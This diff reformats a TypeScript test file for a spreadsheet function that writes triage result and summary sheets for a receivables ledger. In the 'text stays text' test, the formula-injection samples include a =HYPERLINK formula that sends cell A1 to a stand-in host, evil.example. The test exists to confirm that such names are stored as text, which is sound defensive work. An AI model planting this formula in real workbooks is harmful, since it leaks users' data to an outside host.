@@ -9,7 +9,10 @@ import { LEVEL_FILLS } from "../../src/result/style.js";
 import { ledgerWorkbook, triageOf } from "./support.js";
 
 async function paneError(promise: Promise<unknown>): Promise<PaneError> {
-  const error = await promise.then(() => null, (e: unknown) => e);
+  const error = await promise.then(
+    () => null,
+    (e: unknown) => e,
+  );
   expect(error).toBeInstanceOf(PaneError);
   return error as PaneError;
 }
@@ -25,7 +28,13 @@ describe("writeTriageSheets: the result sheet", () => {
     const wb = ledgerWorkbook(40);
     const data = await triageOf(wb);
     const report = await writeTriageSheets(wb.context(), data);
-    expect(report).toMatchObject({ resultSheet: "Triage", summarySheet: "Triage summary", tableName: "ARTriage", rows: 40, resultAddress: "Triage!A1:Y41" });
+    expect(report).toMatchObject({
+      resultSheet: "Triage",
+      summarySheet: "Triage summary",
+      tableName: "ARTriage",
+      rows: 40,
+      resultAddress: "Triage!A1:Y41",
+    });
     const sheet = wb.sheet("Triage");
     const values = sheet.values();
     expect(values[0]).toEqual(data.headers);
@@ -91,7 +100,12 @@ describe("writeTriageSheets: the result sheet", () => {
     const data = await triageOf(wb, "zh");
     const first = await writeTriageSheets(wb.context(), data);
     const second = await writeTriageSheets(wb.context(), data);
-    expect([first.resultSheet, first.summarySheet, second.resultSheet, second.summarySheet]).toEqual(["分诊结果", "分诊汇总", "分诊结果 (2)", "分诊汇总 (2)"]);
+    expect([first.resultSheet, first.summarySheet, second.resultSheet, second.summarySheet]).toEqual([
+      "分诊结果",
+      "分诊汇总",
+      "分诊结果 (2)",
+      "分诊汇总 (2)",
+    ]);
     expect(wb.sheet("分诊结果").values("A1:D1")).toEqual([["源行号", "客户", "余额", "状态"]]);
     expect(wb.sheet("分诊汇总").value(0, 0)).toBe("应收账款组合分诊");
   });
@@ -105,7 +119,10 @@ describe("writeTriageSheets: an empty portfolio", () => {
     const report = await writeTriageSheets(wb.context(), empty);
     expect(report.rows).toBe(0);
     const sheet = wb.sheet("Triage");
-    expect(sheet.values("A1:B2")).toEqual([["source row", "customer"], ["", ""]]);
+    expect(sheet.values("A1:B2")).toEqual([
+      ["source row", "customer"],
+      ["", ""],
+    ]);
     expect(sheet.tables).toHaveLength(1);
     const summary = wb.sheet("Triage summary").values();
     expect(summary.at(-2)![0]).toBe("rows with problems (0)");
@@ -128,7 +145,7 @@ describe("writeTriageSheets: the summary sheet", () => {
     expect(row("triaged balance")[1]).toBe(data.summary.amount);
     expect(row("level 3")).toEqual(["level 3", data.summary.byLevel[3].amount, data.summary.byLevel[3].count, ""]);
     expect(row("rows with problems (1)")).toBeDefined();
-    expect(values.find((r) => r[0] === 5)).toEqual([5, "Customer 1", "customer: duplicate of row 3", 1, ]);
+    expect(values.find((r) => r[0] === 5)).toEqual([5, "Customer 1", "customer: duplicate of row 3", 1]);
     expect(sheet.isBold(0, 0)).toBe(true);
 
     expect(sheet.charts).toHaveLength(1);
@@ -155,14 +172,27 @@ describe("writeTriageSheets: the summary sheet", () => {
 
 describe("writeTriageSheets: text stays text", () => {
   it("writes a customer called =HYPERLINK(...) (and other formula-like names) as text, never a formula", async () => {
-    const names = ['=HYPERLINK("http://evil.example/?leak="&A1,"Click me")', "+SUM(1,2)", "-10", "@cmd", "007 Holdings", "2025-07-31", "'quoted"];
+    const names = [
+      '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
+      "+SUM(1,2)",
+      "-10",
+      "@cmd",
+      "007 Holdings",
+      "2025-07-31",
+      "'quoted",
+    ];
     const wb = ledgerWorkbook(names.length, (i) => names[i]);
     const data = await triageOf(wb);
     await writeTriageSheets(wb.context(), data);
     const sheet = wb.sheet("Triage");
     const c = column(data.headers, "customer");
     // the core reads the customer as written (trimmed) and the result shows it as it was
-    expect(sheet.values().slice(1).map((r) => r[c])).toEqual(names.map((n) => data.rows[names.indexOf(n)][c]));
+    expect(
+      sheet
+        .values()
+        .slice(1)
+        .map((r) => r[c]),
+    ).toEqual(names.map((n) => data.rows[names.indexOf(n)][c]));
     expect(sheet.value(1, c)).toBe(names[0]);
     for (let r = 0; r <= names.length; r++) for (let col = 0; col < data.headers.length; col++) expect(sheet.formula(r, col)).toBeNull();
     const summary = wb.sheet("Triage summary");
@@ -177,7 +207,11 @@ describe("writeTriageSheets: chunks", () => {
     const data = await triageOf(wb);
     wb.syncs.length = 0;
     const progress: number[] = [];
-    const report = await writeTriageSheets(wb.context(), data, { maxRequestBytes: 1_500_000, chunkRows: 100, onProgress: (done) => progress.push(done) });
+    const report = await writeTriageSheets(wb.context(), data, {
+      maxRequestBytes: 1_500_000,
+      chunkRows: 100,
+      onProgress: (done) => progress.push(done),
+    });
     expect(report.chunks).toBeGreaterThanOrEqual(300);
     expect(report.syncs).toBe(wb.syncs.length);
     expect(report.syncs).toBeLessThan(report.chunks / 3);
@@ -255,7 +289,12 @@ describe("writeTriageSheets: failures leave the workbook as it was", () => {
     const data = await triageOf(wb);
     const controller = new AbortController();
     const error = await paneError(
-      writeTriageSheets(wb.context(), data, { chunkRows: 1000, maxRequestBytes: 400_000, signal: controller.signal, onProgress: (done) => done > 0 && controller.abort() }),
+      writeTriageSheets(wb.context(), data, {
+        chunkRows: 1000,
+        maxRequestBytes: 400_000,
+        signal: controller.signal,
+        onProgress: (done) => done > 0 && controller.abort(),
+      }),
     );
     expect(error.name).toBe("AbortError");
     expect(error.code).toBe("aborted");
